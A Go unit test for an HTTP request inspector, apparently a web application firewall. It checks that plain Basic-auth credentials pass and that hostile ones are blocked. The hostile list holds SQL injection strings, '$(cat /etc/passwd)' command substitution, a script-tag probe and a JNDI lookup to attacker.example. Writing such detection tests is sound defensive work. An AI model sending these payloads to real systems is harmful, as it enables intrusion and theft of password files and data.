package inspect

import (
	"encoding/base64"
	"testing"
)

// Clients send a name and a password in Base64 (RFC 7617).
func TestNamesAndPasswordsOfBasicAreValues(t *testing.T) {
	i := inspectorFor(t, patient())
	judged := func(credentials string) (Verdict, bool) {
		w := wire{path: "/", headers: map[string]string{"Authorization": "Basic " + base64.StdEncoding.EncodeToString([]byte(credentials))}}
		return blocks(t, i, w.two("abc123.lambda-url.eu-west-1.on.aws", "/", false))
	}
	for _, credentials := range []string{
		"anna:correct horse battery staple", "anna@example.com:b!Ck&;9", "o'brien:secret", "anna:",
	} {
		if v, _ := judged(credentials); v.Score > 0 {
			t.Errorf("%s: %+v", credentials, v.Matches)
		}
	}
	for _, credentials := range []string{
		"admin' or 1=1-- :x", "anna:' or 1=1-- ", "anna:x' union select password from users-- ", "$(cat /etc/passwd):x", "anna:$(cat /etc/passwd)",
		"anna:<script>alert(1)</script>", "anna:${jndi:ldap://attacker.example/a}", "' or 1=1-- ",
		"anna:%27%20or%201=1--%20", "anna:" + base64.StdEncoding.EncodeToString([]byte("' union select 1-- ")),
	} {
		if v, is := judged(credentials); !is {
			t.Errorf("%s passes: %+v", credentials, v.Matches)
		}
	}
}
